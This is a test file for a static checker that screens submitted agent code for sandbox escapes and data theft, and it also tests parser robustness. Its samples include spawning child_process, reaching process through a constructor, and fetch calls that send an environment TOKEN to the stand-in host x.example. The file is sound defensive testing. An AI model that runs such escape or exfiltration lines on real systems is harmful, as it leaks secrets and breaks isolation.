import { attacks } from "../../../corpora/attacks/index.js";
import { AGENT_CODE_BYTES } from "../../../runtime/architecture/limits.js";
import { judge } from "../../../runtime/gate/gate.js";
import { inspect } from "../../../runtime/gate/inspect.js";

const rulesOf = (source: string): string[] => judge(source).findings.map(({ rule }) => rule);

describe("judge", () => {
  it.each([
    "export default()=>({x,y})=>x*x+Math.sin(y)",
    "export default({capacity:c})=>({item:i,gaps:g,counts:n})=>{let b=0,s=-1/0;for(let k=0;k<g.length;k++){let v=g[k]-i;if(v>s){s=v;b=k}}return b}",
    "export default()=>({x})=>Math.abs(x)<1e-9?1:Math.exp(-x)/x",
    "export default function create({ words }) { const seen = new Map(); return (word) => { seen.set(word, (seen.get(word) ?? 0) + 1); return words.indexOf(word); }; }",
  ])("accepts an honest agent without a finding: %s", (source) => {
    expect(judge(source)).toEqual({ safety_score: 1, decision: "accept", findings: [] });
  });

  it("accepts an agent in TypeScript", () => {
    const source =
      "interface Input { x: number } export default (c: { k: number }) => ({ x }: Input): number => c.k * x!";
    expect(judge(source, "typescript")).toMatchObject({ safety_score: 1, decision: "accept" });
  });

  it("rejects an agent of one byte too much, and says by how much", () => {
    const sized = (bytes: number): string => {
      const empty = "export default()=>()=>''";
      return empty.replace("''", `'${"a".repeat(bytes - empty.length)}'`);
    };
    expect(judge(sized(AGENT_CODE_BYTES)).decision).toBe("accept");
    const [finding] = judge(sized(AGENT_CODE_BYTES + 1)).findings;
    expect(finding).toMatchObject({ rule: "too-large", message: expect.stringContaining("1 more than") });
    expect(judge(`export default()=>()=>'${"\u20ac".repeat(2_219)}'`).decision).toBe("reject"); // 3 bytes each
  });

  it.each([
    ["it does not parse", "export default () => (", "syntax"],
    ["it is nothing", "", "no-default-export"],
    ["it loads a module", "import fs from 'fs'; export default () => () => fs", "forbidden-module"],
  ])("rejects what can never run: %s", (_why, source, rule) => {
    expect(judge(source)).toMatchObject({ safety_score: 0, decision: "reject" });
    expect(rulesOf(source)).toContain(rule);
  });

  it("adds up: a little is quarantined, much is rejected", () => {
    const one = "export default () => () => process";
    expect(judge(one).decision).toBe("quarantine");
    expect(judge(`${one} + require`).safety_score).toBeLessThanOrEqual(judge(one).safety_score);
    expect(judge("export default () => () => eval('1')").decision).toBe("reject");
  });

  it("gives the line of a finding, and counts a rule once a line", () => {
    const source = "export default () => {\n  const a = eval, b = eval;\n  return (x) =>\n x;\n}";
    const calls = judge(source).findings.filter(({ rule }) => rule === "dynamic-code");
    expect(calls).toMatchObject([{ line: 2 }]);
  });

  it("blocks every hostile agent that looks for a way out, but for those that find nothing", () => {
    const families = ["way to the host", "exfiltration and privilege"];
    const accepted = attacks.filter(({ family, source }) => {
      return families.includes(family) && judge(source).decision === "accept";
    });
    expect(accepted.map(({ name }) => name)).toEqual([
      "process by this",
      "this on the stack",
      "frames by captureStackTrace",
      "files on the stack",
      "arguments of who called",
    ]);
  });

  const deep = 3_000;
  it.each([
    ["parentheses", `export default()=>()=>${"(".repeat(deep)}1${")".repeat(deep)}`],
    ["open parentheses", `export default()=>()=>${"(".repeat(6_000)}`],
    ["arrays", `export default()=>()=>${"[".repeat(deep)}${"]".repeat(deep)}`],
    ["negations", `export default()=>()=>${"!".repeat(6_000)}1`],
    ["members", `export default()=>x=>x${".a".repeat(deep)}`],
    ["calls", `export default()=>x=>x${"()".repeat(deep)}`],
    ["a sum", `export default()=>()=>${"1+".repeat(deep)}1`],
    ["arrows", `export default ${"()=>".repeat(1_500)}1`],
    ["blocks", `${"{".repeat(deep)}${"}".repeat(deep)}export default 1`],
    ["loops", `export default()=>()=>{${"for(;;)".repeat(900)};}`],
    [
      "loops with exits at the end",
      `export default()=>()=>{${"for(;;){".repeat(700)}${"break}".repeat(700)}}`.slice(0, 6_600),
    ],
    ["templates", `export default()=>()=>${"`${".repeat(1_500)}1${"}`".repeat(1_500)}`],
    ["groups of a pattern", `export default()=>()=>/${"(".repeat(deep)}${")".repeat(deep)}/`],
    ["classes of a pattern", `export default()=>()=>/${"[a".repeat(deep)}/`],
    ["patterns to assign to", `export default()=>(${"[".repeat(deep)}a${"]".repeat(deep)})=>a`],
    ["type arguments", `let x: ${"A<".repeat(deep)}B${">".repeat(deep)};export default 1`],
    ["assertions", `export default()=>()=>${"<a>(".repeat(1_000)}1${")".repeat(1_000)}`],
    ["comparisons", `export default()=>(a,b)=>${"a<b,".repeat(1_500)}1`],
    ["arrows in conditions", `export default()=>(a)=>${"a?(a):".repeat(1_000)}1`],
    ["arrows that may be", `export default()=>(a)=>${"(a=".repeat(1_500)}1${")".repeat(1_500)}`],
    ["asynchronous arrows that may be", `export default()=>(a)=>${"async(a=".repeat(600)}1${")".repeat(600)}`],
    ["names", `export default()=>()=>{let ${Array.from({ length: 1_300 }, (_, i) => `a${i}`).join()};}`],
  ])("never throws and never takes long, in JavaScript and TypeScript: %s", (_name, source) => {
    for (const language of ["javascript", "typescript"] as const) {
      expect(judge("export default()=>x=>x", language).decision).toBe("accept"); // warm
      const took = cpuMs(() => judge(source, language));
      expect(["accept", "quarantine", "reject"]).toContain(took.value.decision);
      expect(took.ms).toBeLessThan(1_000); // the goal is 50 on a quiet machine; exponential work would take hours
    }
  });
});

/** Processor time, which a busy machine does not stretch as it stretches the clock. */
function cpuMs<T>(work: () => T): { value: T; ms: number } {
  const before = process.cpuUsage();
  const value = work();
  const { user, system } = process.cpuUsage(before);
  return { value, ms: (user + system) / 1_000 };
}

describe("inspect", () => {
  it("holds files to the four families only", () => {
    const script =
      "#!/usr/bin/env node\nconst { join } = require('path');\nasync function main() { console.log(join('a', 'b')); }\nmain();";
    expect(inspect(script)).toMatchObject({ decision: "accept", findings: [] });
    expect(judge(script).decision).not.toBe("accept");
    expect(inspect("with (o) { x = 1 }").decision).toBe("accept"); // a script, not a module
    expect(inspect("return 1").decision).toBe("accept"); // a part of one
  });

  it.each([
    "function decoy(process, require, Function) {} Function('return 1')()",
    "{ let Function = 1; } Function('return 1')()",
    "const decoy = function Function() {}; Function('return 1')()",
    "try {} catch (require) {} require('child_process')",
    "for (const fetch of []); fetch('https://x.example', { method: 'POST', body })",
    "export { exec } from 'child_process'",
    "export * from 'node:vm'",
    "process.getBuiltinModule('child_process')",
    "new ((() => {}).constructor)('return process')()",
  ])("is not misled by a name declared elsewhere, nor by another way to the same: %s", (source) => {
    expect(inspect(source).decision).not.toBe("accept");
  });

  it.each([
    "function read(process) { { return process.binding; } }",
    "if (x) { var Function = () => 1; } Function('1')",
    "const fetch = (key) => cache.get(key); function load() { return () => fetch('a'); }",
    "class A { static { const require = () => 1; require('child_process'); } }",
  ])("knows a name of the program's own wherever it is in scope: %s", (source) => {
    expect(inspect(source).decision).toBe("accept");
  });

  it("does not vouch for what it cannot read", () => {
    expect(inspect("function (").decision).not.toBe("accept");
  });

  it("sums up what is harmless alone: reading secrets is, sending them is not", () => {
    expect(inspect("console.log(process.env.HOME)").decision).toBe("accept");
    expect(inspect("fetch('https://x.example/' + process.env.TOKEN)").decision).not.toBe("accept");
  });
});
